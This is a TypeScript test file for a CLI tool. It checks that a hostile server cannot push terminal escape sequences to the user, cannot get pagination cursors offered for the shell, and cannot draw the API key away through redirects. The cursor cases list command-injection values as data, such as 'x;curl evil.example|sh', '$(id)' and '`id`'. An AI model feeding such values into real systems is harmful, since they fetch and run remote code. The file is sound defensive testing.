import { createServer, type RequestListener } from 'node:http';
import { afterAll, describe, expect, test } from 'vitest';
import { newApiKeySecret } from '../../src/domain/key-format.ts';
import { listen } from '../../src/process/serve-http.ts';
import { atEnd, endAll } from '../support/at-end.ts';
import { type Desk, openDesk } from './flowplate.ts';

afterAll(endAll);

const platformKey = newApiKeySecret('platform', (size) => Buffer.alloc(size, 7));

/** The desk of an operator whose --server is somebody else's. */
async function deskAt(listener: RequestListener): Promise<Desk> {
  const server = createServer(listener);
  const port = await listen(server, 0, '127.0.0.1');
  atEnd(() => {
    server.closeAllConnections();
    server.close();
  });
  return openDesk(`http://127.0.0.1:${port}`, { FLOWPLATE_API_KEY: platformKey });
}

const escapes = '\u001b]0;owned\u0007\u001b[2J\u009b31m\u202e\u2028';
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not get through
const unprintable = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/;

/** JSON with every character as it is: what JSON escapes is escaped, the rest is not. */
const raw = (value: unknown) => JSON.stringify(value);

describe('nothing of a hostile server reaches the terminal but characters to look at', () => {
  const tenant = {
    id: `org_${escapes}`,
    name: escapes,
    status: escapes,
    created_at: escapes,
    environments: [escapes],
    key_counts: {},
  };
  const error = { code: `NO${escapes}`, system_message: escapes, trace_id: escapes, details: [escapes] };

  test.each([
    ['a table', 200, raw([tenant]), ['platform', 'tenants', 'list']],
    ['a sentence', 200, raw(tenant), ['platform', 'tenants', 'provision', '--name', 'x']],
    ['--json', 200, raw([tenant]), ['platform', 'tenants', 'list', '--json']],
    ['a refusal', 403, raw({ error }), ['platform', 'tenants', 'list']],
    ['the lines of an export', 200, `${raw({ id: escapes })}\n`, ['platform', 'audit', 'export']],
    ['a page that is no answer', 200, escapes, ['platform', 'tenants', 'list']],
  ])('in %s', async (_name, status, text, args) => {
    const desk = await deskAt((_req, res) => void res.writeHead(status).end(text));
    const { stdout, stderr } = await desk.run(args);
    expect(`${stdout}${stderr}`).not.toBe('');
    expect(`${stdout}${stderr}`).not.toMatch(unprintable);
  });

  test('an exported line still parses to what was sent', async () => {
    const desk = await deskAt((_req, res) => void res.end(`${raw({ id: escapes })}\n`));
    const { stdout } = await desk.run(['platform', 'audit', 'export']);
    expect(JSON.parse(stdout)).toEqual({ id: escapes });
  });

  test.each(['x;curl evil.example|sh', '$(id)', '--server=http://evil.example', 'a\u009b2J', '`id`'])(
    'a cursor that is no plain word, %j, is not offered for the shell',
    async (cursor) => {
      const link = `</x?${new URLSearchParams({ cursor })}>; rel="next"`;
      const desk = await deskAt((_req, res) => void res.writeHead(200, { link }).end('[]'));
      const { stderr } = await desk.run(['platform', 'tenants', 'list']);
      expect(stderr).toBe('There are more: add --all\n');
    },
  );
});

test.each([301, 302, 307, 308])('a redirect with %i takes the credential nowhere', async (status) => {
  const heard: string[] = [];
  const elsewhere = createServer((req, res) => {
    heard.push(req.url ?? '');
    res.end('[]');
  });
  const location = `http://127.0.0.1:${await listen(elsewhere, 0, '127.0.0.1')}/api`;
  atEnd(() => void elsewhere.close());
  const desk = await deskAt((_req, res) => void res.writeHead(status, { location }).end());
  for (const args of [
    ['platform', 'tenants', 'list'],
    ['platform', 'audit', 'export'],
  ]) {
    const { stderr, exitCode } = await desk.run(args);
    expect([exitCode, stderr]).toEqual([1, expect.stringContaining(`(status ${status})`)]);
    expect(stderr).not.toContain(platformKey);
  }
  expect(heard).toEqual([]);
});
